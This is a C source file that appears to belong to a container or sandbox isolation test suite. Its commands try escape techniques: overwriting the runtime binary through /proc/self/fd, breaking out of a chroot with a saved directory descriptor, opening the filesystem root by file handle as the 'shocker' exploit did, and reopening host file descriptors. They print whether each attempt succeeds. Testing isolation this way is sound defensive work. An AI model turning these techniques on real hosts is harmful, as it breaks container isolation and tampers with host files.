/* Attacks by opening: the runtime's binary, kernel files, devices, file handles, what lies above a chroot. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* overwrite FD: append to the program that was behind FD, once nobody executes it any more. */
int cmd_overwrite(int argc, char **argv)
{
	char path[64], link[4096] = "";
	int fd = -1;

	if (argc != 1)
		return 64;
	snprintf(path, sizeof(path), "/proc/self/fd/%s", argv[0]);
	(void)!readlink(path, link, sizeof(link) - 1);
	for (int tries = 0; fd < 0 && tries < 200; tries++) {
		fd = open(path, O_WRONLY | O_APPEND);
		if (fd < 0 && errno != ETXTBSY)
			break;
		if (fd < 0)
			usleep(2000);
	}
	if (fd < 0) {
		printf("not opened for writing %s: %s\n", link, strerror(errno));
		return 1;
	}
	printf("OPENED FOR WRITING %s\n", link);
	if (strstr(link, "victim") && write(fd, "OVERWRITTEN", 11) == 11)
		printf("OVERWROTE %s\n", link);
	return 0;
}

/* open r|w|d PATH...: what opens (d: as a device, without waiting for one). */
int cmd_open(int argc, char **argv)
{
	for (int i = 1; i < argc; i++) {
		int flags = (*argv[0] == 'w' ? O_WRONLY : O_RDONLY) | O_NONBLOCK | O_CLOEXEC | O_NOCTTY;
		int fd = open(argv[i], flags);

		printf("%s %s\n", fd < 0 ? strerror(errno) : "OPENED", argv[i]);
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

static int walked;

static int try_write(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
	int fd;

	(void)ftw;
	if (type != FTW_F || !S_ISREG(st->st_mode))
		return 0;
	walked++;
	fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd >= 0) {
		printf("OPENED %s\n", path);
		close(fd);
	}
	return 0;
}

/* walk DIR...: every file below that opens for writing; nothing is written. */
int cmd_walk(int argc, char **argv)
{
	for (int i = 0; i < argc; i++)
		nftw(argv[i], try_write, 32, FTW_PHYS);
	printf("walked %d\n", walked);
	return 0;
}

/* chroot REL: out of a chroot by a directory that was opened before a second chroot, then REL from the top. */
int cmd_chroot(int argc, char **argv)
{
	char text[64] = "";
	int top = open("/", O_RDONLY | O_DIRECTORY), fd;

	if (argc != 1 || top < 0)
		return 64;
	mkdir("/deeper", 0755);
	if (chroot("/deeper") < 0 || fchdir(top) < 0)
		return printf("chroot: %s\n", strerror(errno)), 1;
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	if (chroot(".") < 0)
		return printf("chroot: %s\n", strerror(errno)), 1;
	fd = open(argv[0], O_RDONLY);
	if (fd < 0 || read(fd, text, sizeof(text) - 1) < 0)
		return printf("not found: %s\n", strerror(errno)), 1;
	printf("READ %s\n", text);
	return 0;
}

/* handle PATH: open_by_handle_at of the root of the file system that PATH lies on, as "shocker" did. */
int cmd_handle(int argc, char **argv)
{
	union {
		struct file_handle handle;
		char space[sizeof(struct file_handle) + 128];
	} root = { .handle = { .handle_bytes = 128 } };
	int mount_id, at, fd;

	if (argc != 1)
		return 64;
	at = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (at < 0 || name_to_handle_at(at, "", &root.handle, &mount_id, AT_EMPTY_PATH) < 0)
		return printf("no handle: %s\n", strerror(errno)), 1;
	if (root.handle.handle_bytes >= 4) { /* ext4: inode number, generation 0 means any */
		unsigned int inode[2] = { 2, 0 };

		memcpy(root.handle.f_handle, inode, root.handle.handle_bytes < 8 ? 4 : 8);
	}
	fd = open_by_handle_at(at, &root.handle, O_RDONLY | O_DIRECTORY);
	printf("%s\n", fd < 0 && errno == EPERM ? "refused" : fd < 0 ? strerror(errno) : "OPENED");
	return 0;
}

/* reopen: is what came as 0, 1 and 2 a file of the host? Opened anew through /proc it gives more than was handed over:
 * reading what was there, writing what was to be read. A device of the host can be given another mode: here its own. */
int cmd_reopen(int argc, char **argv)
{
	char path[64], text[64] = "";
	struct stat st;

	(void)argc;
	(void)argv;
	for (int fd = 0; fd < 3; fd++) {
		int other;

		if (fstat(fd, &st) < 0)
			continue;
		printf("fd %d mode %o device %lu inode %lu", fd, st.st_mode, (unsigned long)st.st_dev,
		       (unsigned long)st.st_ino);
		if (S_ISCHR(st.st_mode) && fchmod(fd, st.st_mode & 07777) == 0)
			printf(" CHMOD");
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		other = S_ISREG(st.st_mode) ? open(path, fd ? O_RDONLY : O_WRONLY) : -1;
		if (other >= 0)
			printf(" REOPENED");
		if (other >= 0 && fd && read(other, text, sizeof(text) - 1) > 0)
			printf(" READ %s", text);
		puts("");
	}
	return 0;
}

/* ids: who a program became. */
int cmd_ids(int argc, char **argv)
{
	gid_t groups[256];
	uid_t uid[3];
	gid_t gid[3];
	int count = getgroups(256, groups);

	(void)argc;
	(void)argv;
	getresuid(&uid[0], &uid[1], &uid[2]);
	getresgid(&gid[0], &gid[1], &gid[2]);
	printf("uid %u %u %u gid %u %u %u groups", uid[0], uid[1], uid[2], gid[0], gid[1], gid[2]);
	for (int i = 0; i < count; i++)
		printf(" %u", groups[i]);
	puts("");
	return 0;
}
